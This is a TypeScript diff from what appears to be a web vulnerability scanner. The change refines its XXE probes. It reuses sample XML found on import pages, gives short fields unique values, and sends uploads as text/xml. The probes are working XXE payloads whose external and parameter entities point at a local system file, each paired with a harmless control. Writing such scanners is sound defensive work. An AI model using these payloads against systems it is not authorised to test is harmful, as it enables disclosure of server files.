@@ -67,15 +67,25 @@ export interface XxeDocument {
 /** Element names a generic document offers an app that reads one field of an XML body it does not own. */
 const genericFields = ['name', 'title', 'description', 'comment', 'message', 'text', 'value', 'data'];
 
+/** A leaf whose sample text is at least this long is a text field (a description), not a name or a code. */
+const longText = 24;
+
 /** The first element's name (the prolog and DOCTYPE already removed; `<?` and `<!` never match). */
 const rootOf = (xml: string): string | null =>
   /<([A-Za-z_][\w.-]*(?::[\w.-]+)?)[\s/>]/.exec(xml)?.[1] ?? null;
 
 /**
  * The body a probe sends, with `ref` in its text: the app's own document with each leaf element's text
- * replaced (its first `maxLeaves`), else a generic one offering the usual field names.
+ * replaced (its first `maxLeaves`), else a generic one offering the usual field names. With `short`, the
+ * document is an import's records, which the app stores: only the leaves whose sample text is long (a
+ * description) get `ref`, and each short one (a name, a code: a column of 255 characters, a unique key)
+ * gets `short(n)`, unique to the document; with no long leaf at all, every leaf gets `ref`.
  */
-export function documentBody(template: string | undefined, ref: string): { root: string; body: string } {
+export function documentBody(
+  template: string | undefined,
+  ref: string,
+  short?: (n: number) => string,
+): { root: string; body: string } {
   const own = template && template.length <= xxeLimits.maxTemplate ? template : undefined;
   const stripped = own
     ?.replace(/^\uFEFF?\s*<\?xml[\s\S]*?\?>/, '')
@@ -83,9 +93,14 @@ export function documentBody(template: string | undefined, ref: string): { root:
     .trim();
   const root = stripped ? rootOf(stripped) : null;
   if (stripped && root) {
+    const leaf = />(\s*[^<>\s][^<>]*)<\//g;
+    const long = (text: string) => text.trim().length >= longText;
+    const anyLong = short !== undefined && [...stripped.matchAll(leaf)].some((m) => long(m[1]!));
     let leaves = 0;
-    const body = stripped.replace(/>(\s*[^<>\s][^<>]*)<\//g, (whole) =>
-      leaves < xxeLimits.maxLeaves ? (leaves++, `>${ref}</`) : whole,
+    const body = stripped.replace(leaf, (whole, text: string) =>
+      leaves < xxeLimits.maxLeaves
+        ? `>${anyLong && !long(text) ? short(leaves++) : (leaves++, ref)}</`
+        : whole,
     );
     if (leaves > 0) {
       return { root, body };
@@ -109,21 +124,23 @@ export function documentBody(template: string | undefined, ref: string): { root:
  * parser that reports its errors quotes the file's first line; its control's parameter entity holds a
  * harmless declaration instead. Neither names anything but `probedFile`, nor nests entities.
  */
-export function xxeDocuments(template: string | undefined, token: string): XxeDocument[] {
+export function xxeDocuments(template: string | undefined, token: string, stored = false): XxeDocument[] {
   const harmless = `vigil${token}`;
-  const { root, body } = documentBody(template, '&vigil;');
-  const plain = documentBody(template, harmless);
+  // A stored import's short fields differ between control and probe (a unique code takes one of each).
+  const short = (which: string) => (stored ? (n: number) => `${harmless}${which}${n}` : undefined);
+  const body = (ref: string, which: string) => documentBody(template, ref, short(which));
+  const { root } = body('&vigil;', 'p');
   const prolog = '<?xml version="1.0" encoding="UTF-8"?>\n';
   return [
     {
       variant: 'external entity',
-      probe: `${prolog}<!DOCTYPE ${root} [<!ENTITY vigil SYSTEM "${probedFile}">]>\n${body}`,
-      control: `${prolog}<!DOCTYPE ${root} [<!ENTITY vigil "${harmless}">]>\n${body}`,
+      probe: `${prolog}<!DOCTYPE ${root} [<!ENTITY vigil SYSTEM "${probedFile}">]>\n${body('&vigil;', 'p').body}`,
+      control: `${prolog}<!DOCTYPE ${root} [<!ENTITY vigil "${harmless}">]>\n${body('&vigil;', 'c').body}`,
     },
     {
       variant: 'parameter entity',
-      probe: `${prolog}<!DOCTYPE ${root} [<!ENTITY % vigil SYSTEM "${probedFile}"> %vigil;]>\n${plain.body}`,
-      control: `${prolog}<!DOCTYPE ${root} [<!ENTITY % vigil "<!ENTITY vigil${token} '${harmless}'>"> %vigil;]>\n${plain.body}`,
+      probe: `${prolog}<!DOCTYPE ${root} [<!ENTITY % vigil SYSTEM "${probedFile}"> %vigil;]>\n${body(harmless, 'q').body}`,
+      control: `${prolog}<!DOCTYPE ${root} [<!ENTITY % vigil "<!ENTITY vigil${token} '${harmless}'>"> %vigil;]>\n${body(harmless, 'd').body}`,
     },
   ];
 }
@@ -190,6 +207,40 @@ export function xmlPlaces(start: URL, pages: Page[], apiCalls: ApiCall[]): XxePl
   return [...places.values()].slice(0, xxeLimits.maxPlaces);
 }
 
+const entities: Record<string, string> = { lt: '<', gt: '>', amp: '&', quot: '"', apos: "'", '#39': "'" };
+
+/**
+ * A sample XML document the page shows (an import page's "Sample XML": in <xmp>, or escaped in <pre>,
+ * <code> or <textarea>), bounded by `maxTemplate`, or undefined. An upload's probe then has the elements
+ * the import reads, as an app's own XML body gives an API's.
+ */
+export function sampleXml(html: string): string | undefined {
+  const text = html.slice(0, 200_000);
+  const shown = (pattern: RegExp) => [...text.matchAll(pattern)].slice(0, 20).map((m) => m[1]!);
+  const candidates = [
+    ...shown(/<xmp\b[^>]*>([\s\S]*?)<\/xmp>/gi),
+    // Escaped in a block: its own tags (a highlighter's spans) dropped, its text unescaped.
+    ...shown(/<(?:pre|code|textarea)\b[^>]*>([\s\S]*?)<\/(?:pre|code|textarea)>/gi)
+      .filter((block) => block.includes('&lt;'))
+      .map((block) => block.replace(/<[^>]*>/g, '')),
+  ];
+  for (const candidate of candidates) {
+    const xml = candidate
+      .replace(/&(lt|gt|amp|quot|apos|#39);/g, (_, name: string) => entities[name]!)
+      .trim();
+    const root = rootOf(xml.replace(/^<\?xml[\s\S]*?\?>\s*/, ''));
+    if (
+      xml.startsWith('<') &&
+      root &&
+      xml.length <= xxeLimits.maxTemplate &&
+      new RegExp(`</${root.replace(/[.]/g, '\\.')}>$`).test(xml)
+    ) {
+      return xml;
+    }
+  }
+  return undefined;
+}
+
 /** Sign-in and account forms never get a file from us. */
 const notUpload = /log-?in|sign-?in|session|password|passwd|avatar|profile-?picture/i;
 
@@ -224,9 +275,11 @@ export function uploadPlaces(
       ) {
         continue;
       }
+      const sample = sampleXml(page.response.body);
       places.set(key, {
         url: form.action,
-        why: `its form on ${placeKey(page.url)} uploads a file in "${file.name}"`,
+        why: `its form on ${placeKey(page.url)} uploads a file in "${file.name}"${sample ? ', in the form of the sample XML the page shows' : ''}`,
+        ...(sample ? { template: sample } : {}),
         contentType: 'application/xml',
         upload: { field: file.name, form },
       });
@@ -293,7 +346,8 @@ export function multipartBody(
   }
   parts.push(
     `Content-Disposition: form-data; name="${quote(upload.field)}"; filename="${quote(fileName)}"\r\n` +
-      `Content-Type: application/xml\r\n\r\n${content}`,
+      // What browsers send for a .xml file (Chromium's and Firefox's own table), which an import may insist on.
+      `Content-Type: text/xml\r\n\r\n${content}`,
   );
   return `${parts.map((part) => `--${boundary}\r\n${part}\r\n`).join('')}--${boundary}--\r\n`;
 }
@@ -362,7 +416,8 @@ export async function xxeFindings(
     2,
     async (place) => {
       const token = randomBytes(5).toString('hex');
-      for (const document of xxeDocuments(place.template, token)) {
+      // An upload in the form of the page's sample is an import: what it parses, it stores.
+      for (const document of xxeDocuments(place.template, token, Boolean(place.upload && place.template))) {
         if (signal?.aborted) {
           break;
         }
